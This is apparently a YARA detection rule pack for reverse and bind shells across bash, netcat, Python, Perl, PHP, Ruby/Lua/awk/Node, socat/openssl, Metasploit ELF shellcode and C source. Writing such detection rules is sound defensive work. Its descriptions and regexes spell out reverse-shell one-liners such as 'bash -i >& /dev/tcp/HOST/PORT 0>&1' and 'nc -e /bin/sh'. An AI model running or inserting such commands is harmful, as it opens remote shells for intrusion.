/*
 * yingji rule pack: reverse and bind shells (shell one-liners, scripting
 * language socket shells, socat/netcat/telnet pipes, Metasploit payloads).
 */

rule ReverseShell_Bash_DevTcp : reverse_shell bash
{
    meta:
        author = "yingji"
        description = "Bash reverse shell through /dev/tcp or /dev/udp (bash -i >& /dev/tcp/HOST/PORT 0>&1, exec 5<>/dev/tcp/...)"
        description_zh = "通过 /dev/tcp 或 /dev/udp 的 Bash 反弹 Shell(bash -i >& /dev/tcp/HOST/PORT 0>&1 等)"
        severity = "critical"
        mitre = "T1059.004"
        reference = "https://attack.mitre.org/techniques/T1059/004/"
        date = "2026-11-28"
    strings:
        $b1 = /(ba)?sh\s+-i\s*(>&|&>|>)\s*\/dev\/(tcp|udp)\/[^\/\s]{1,80}\/\d{1,5}/
        $b2 = /\/dev\/(tcp|udp)\/[^\/\s]{1,80}\/\d{1,5}\s*0\s*>\s*&\s*1/
        $b3 = /exec\s+\d{1,3}\s*<>\s*\/dev\/(tcp|udp)\/[^\/\s]{1,80}\/\d{1,5}\s*[;\n][^\n]{0,80}(<&\s*\d|>&\s*\d|\|\s*while\s+read)/
        $b4 = /0\s*<&\s*\d{1,3}\s*-?\s*;\s*exec\s+\d{1,3}\s*<>\s*\/dev\/tcp\//
        $b5 = /(ba)?sh\s+-i\s+[^\n]{0,20}\d?>\s*\/dev\/tcp\/[^\/\s]{1,80}\/\d{1,5}/
    condition:
        filesize < 5MB and any of them
}

rule ReverseShell_Netcat_Exec : reverse_shell netcat
{
    meta:
        author = "yingji"
        description = "Netcat/ncat/telnet shell: nc -e /bin/sh, the mkfifo/mknod pipe shell, or telnet | /bin/sh | telnet"
        description_zh = "Netcat/ncat/telnet Shell：nc -e /bin/sh、mkfifo/mknod 管道反弹、telnet | /bin/sh | telnet"
        severity = "critical"
        mitre = "T1059.004"
        reference = "https://attack.mitre.org/techniques/T1059/004/"
        date = "2026-11-28"
    strings:
        $n1 = /\b(nc|ncat|netcat|nc\.traditional|busybox\s+nc)\s+[^\n|;]{0,80}-(e|c)\s*['"]?\/bin\/(ba|z|da)?sh/
        $n2 = /mkfifo\s+(\/tmp|\/var\/tmp|\/dev\/shm)\/\S{1,30}\s*;\s*(cat|tail\s+-f)\s+\S{1,40}\s*\|\s*\/bin\/(ba)?sh\s+-i\s*2>&1\s*\|\s*(nc|ncat|netcat|openssl)/
        $n3 = /mknod\s+\S{1,40}\s+p\s*[;&]{1,2}\s*[^\n]{0,40}\/bin\/(ba)?sh\s+0?<\s*\S{1,40}\s*\|\s*(nc|telnet)/
        $n4 = /telnet\s+\S{1,80}\s+\d{1,5}\s*\|\s*\/bin\/(ba)?sh\s*\|\s*telnet/
        $n5 = /(nc|ncat)\s+-[a-z]{0,4}l[a-z]{0,4}\s+(-p\s+)?\d{2,5}\s+-e\s+\/bin\/(ba)?sh/
        $n6 = /rm\s+-f\s+\S{1,40}\s*;\s*mkfifo\s+\S{1,40}\s*;\s*cat\s+\S{1,40}\s*\|\s*\/bin\/(ba)?sh/
    condition:
        filesize < 5MB and any of them
}

rule ReverseShell_Python : reverse_shell python
{
    meta:
        author = "yingji"
        description = "Python reverse shell: a socket connected back and dup2'ed onto stdin/stdout/stderr before spawning a shell (pty.spawn or subprocess /bin/sh -i)"
        description_zh = "Python 反弹 Shell：建立回连 Socket 后 dup2 到标准输入输出再启动 Shell(pty.spawn 或 /bin/sh -i)"
        severity = "critical"
        mitre = "T1059.006"
        reference = "https://attack.mitre.org/techniques/T1059/006/"
        date = "2026-11-28"
    strings:
        $c = /\.connect\s*\(\s*\(\s*["'][^"']{1,80}["']\s*,\s*\d{1,5}\s*\)\s*\)/
        $c2 = /\.connect\s*\(\s*\(\s*\w{1,20}\s*,\s*(int\s*\()?\w{1,20}\)?\s*\)\s*\)/
        $d = /os\.dup2\s*\(\s*\w{1,10}\.fileno\s*\(\s*\)\s*,\s*[012]\s*\)/
        $s1 = /pty\.spawn\s*\(\s*["']\/bin\/(ba|z)?sh["']/
        $s2 = /subprocess\.(call|Popen|run)\s*\(\s*\[\s*["']\/bin\/(ba|z)?sh["']\s*,\s*["']-i["']/
        $s3 = /os\.(system|execl?p?)\s*\(\s*["']\/bin\/(ba|z)?sh/
    condition:
        filesize < 1MB and ($c or $c2) and $d and any of ($s*)
}

rule ReverseShell_Perl : reverse_shell perl
{
    meta:
        author = "yingji"
        description = "Perl reverse or bind shell: socket connected and STDIN/STDOUT/STDERR reopened onto it before exec of /bin/sh"
        description_zh = "Perl 反弹/绑定 Shell：Socket 连接后将 STDIN/STDOUT/STDERR 重定向到 Socket 并 exec /bin/sh"
        severity = "critical"
        mitre = "T1059"
        reference = "https://attack.mitre.org/techniques/T1059/"
        date = "2026-11-28"
    strings:
        $s1 = /socket\s*\(\s*\w{1,10}\s*,\s*PF_INET\s*,\s*SOCK_STREAM/
        $s2 = /IO::Socket::INET\s*->\s*new\s*\(/
        $o1 = /open\s*\(\s*STDIN\s*,\s*["']>&\s*\w{1,10}["']\s*\)/
        $o2 = /open\s*\(\s*STDOUT\s*,\s*["']>&\s*\w{1,10}["']\s*\)/
        $o3 = /STDIN\s*->\s*fdopen\s*\(\s*\$\w{1,10}\s*,\s*r\s*\)/
        $e = /exec\s*[\(\{]?\s*["']?\/bin\/(ba)?sh|system\s*\(\s*["']\/bin\/(ba)?sh/
    condition:
        filesize < 1MB and any of ($s*) and ($o1 and $o2 or $o3) and $e
}

rule ReverseShell_PHP_Socket : reverse_shell php
{
    meta:
        author = "yingji"
        description = "PHP reverse shell: fsockopen to a host and a shell bound to the socket (exec \"/bin/sh -i <&3 >&3 2>&3\" or proc_open with the socket as descriptors, pentestmonkey php-reverse-shell)"
        description_zh = "PHP 反弹 Shell：fsockopen 回连并将 Shell 绑定到 Socket(/bin/sh -i <&3 >&3 2>&3 或 proc_open，pentestmonkey php-reverse-shell)"
        severity = "critical"
        mitre = "T1059.004"
        reference = "https://github.com/pentestmonkey/php-reverse-shell"
        date = "2026-11-28"
    strings:
        $f = /(fsockopen|stream_socket_client|socket_connect)\s*\(/
        $e1 = /\/bin\/(ba)?sh\s+-i\s*<&\s*\d\s*>&\s*\d\s*2>&\s*\d/
        $e2 = /proc_open\s*\(\s*["']?\$?\w{0,10}["']?\s*,\s*(array\s*\(|\[)[^;]{0,120}\$sock/
        $e3 = "php-reverse-shell" nocase
        $e4 = /\$shell\s*=\s*['"][^'"]{0,40}\/bin\/(ba)?sh\s+-i/
    condition:
        filesize < 500KB and $f and any of ($e*)
}

rule ReverseShell_Ruby_Lua_Awk : reverse_shell
{
    meta:
        author = "yingji"
        description = "Ruby, Lua, awk or Node.js reverse shell one-liners (TCPSocket + exec sprintf('/bin/sh -i <&%d'), awk /inet/tcp, lua socket.tcp, node child_process with net.Socket)"
        description_zh = "Ruby、Lua、awk 或 Node.js 反弹 Shell 单行命令"
        severity = "critical"
        mitre = "T1059"
        reference = "https://attack.mitre.org/techniques/T1059/"
        date = "2026-11-28"
    strings:
        $r1 = /TCPSocket\.(open|new)\s*\([^)]{1,80}\)[^\n]{0,40}\.to_i\s*;\s*exec\s+sprintf\s*\(\s*["']\/bin\/(ba)?sh\s+-i/
        $r2 = /TCPSocket\.new\s*\([^)]{1,80}\)[^\n]{0,200}(IO\.popen|spawn|exec)\s*\(?[^\n]{0,40}\/bin\/(ba)?sh/
        $a1 = /\/inet\/tcp\/0\/[^\/\s]{1,80}\/\d{1,5}/
        $l1 = /require\s*\(?\s*['"]socket['"]\s*\)?[^\n]{0,200}tcp\s*\(\s*\)[^\n]{0,200}connect\s*\([^\n]{0,200}(io\.popen|os\.execute)/
        $j1 = /new\s+net\.Socket\s*\(\s*\)[^\n]{0,400}(spawn|exec)\s*\(\s*["']\/bin\/(ba)?sh/
        $j2 = /require\s*\(\s*['"]child_process['"]\s*\)\s*\.\s*spawn\s*\(\s*["']\/bin\/(ba)?sh["'][^\n]{0,300}\.connect\s*\(/
    condition:
        filesize < 1MB and any of them
}

rule ReverseShell_Socat_OpenSSL : reverse_shell socat
{
    meta:
        author = "yingji"
        description = "socat or openssl shell: socat exec:'bash -li',pty... tcp:HOST:PORT, socat TCP-LISTEN ... EXEC:/bin/sh, or openssl s_client piped to a shell"
        description_zh = "socat 或 openssl Shell：socat exec:'bash -li',pty... tcp:HOST:PORT、socat 监听 EXEC:/bin/sh、openssl s_client 管道 Shell"
        severity = "critical"
        mitre = "T1059.004"
        reference = "https://attack.mitre.org/techniques/T1059/004/"
        date = "2026-11-28"
    strings:
        $s1 = /socat\s+[^\n]{0,80}exec:['"]?(\/bin\/)?(ba|z)?sh[^\n]{0,80}(tcp|tcp4|tcp-connect|openssl|ssl):[^\s:]{1,80}:\d{1,5}/ nocase
        $s2 = /socat\s+[^\n]{0,40}(tcp|tcp4|tcp-connect|openssl|ssl)(-listen)?:[^\s]{1,80}\s+[^\n]{0,20}exec:['"]?(\/bin\/)?(ba|z)?sh/ nocase
        $s3 = /socat\s+[^\n]{0,40}(tcp-listen|tcp4-listen):\d{1,5}[^\n]{0,60}(exec|system):['"]?(\/bin\/)?(ba|z)?sh/ nocase
        $o1 = /openssl\s+s_client\s+(-quiet\s+)?-connect\s+\S{1,80}:\d{1,5}[^\n]{0,40}\|\s*\/bin\/(ba)?sh[^\n]{0,40}\|\s*openssl\s+s_client/
    condition:
        filesize < 5MB and any of them
}

rule ReverseShell_Metasploit_ELF_Payload : reverse_shell metasploit elf
{
    meta:
        author = "yingji"
        description = "Tiny ELF with Metasploit/msfvenom Linux shellcode (shell_reverse_tcp / meterpreter reverse_tcp stagers for x86 and x64)"
        description_zh = "含 Metasploit/msfvenom Linux Shellcode(shell_reverse_tcp、meterpreter reverse_tcp 载荷，x86/x64)的小型 ELF"
        severity = "critical"
        mitre = "T1059.004"
        reference = "https://github.com/rapid7/metasploit-framework"
        date = "2026-11-28"
    strings:
        $x64_sock = { 6A 29 58 99 6A 02 5F 6A 01 5E 0F 05 }
        $x64_mmap = { 31 FF 6A 09 58 99 B6 10 48 89 D6 4D 31 C9 6A 22 41 5A B2 07 0F 05 }
        $x86_sock = { 31 DB F7 E3 53 43 53 6A 02 89 E1 B0 66 CD 80 }
        $x86_bind = { 6A 66 58 99 53 43 53 6A 02 89 E1 CD 80 }
    condition:
        uint32(0) == 0x464c457f and filesize < 20KB and any of them
}

rule ReverseShell_C_Source : reverse_shell source
{
    meta:
        author = "yingji"
        description = "C source of a reverse/bind shell: socket connect or accept, dup2 of the socket onto fds 0-2 and execve of /bin/sh"
        description_zh = "反弹/绑定 Shell 的 C 源码：socket connect/accept 后 dup2 到 0-2 并 execve /bin/sh"
        severity = "high"
        mitre = "T1059.004"
        reference = "https://attack.mitre.org/techniques/T1059/004/"
        date = "2026-11-28"
    strings:
        $i = "#include"
        $c = /\b(connect|accept)\s*\(/
        $d0 = /dup2\s*\(\s*\w{1,20}\s*,\s*0\s*\)/
        $d1 = /dup2\s*\(\s*\w{1,20}\s*,\s*1\s*\)/
        $dl = /for\s*\([^)]{0,40}\)\s*dup2\s*\(\s*\w{1,20}\s*,\s*\w{1,5}\s*\)/
        $e = /exec(ve|l|lp|vp)\s*\(\s*["']\/bin\/(ba)?sh["']/
    condition:
        filesize < 200KB and $i and $c and (($d0 and $d1) or $dl) and $e
}
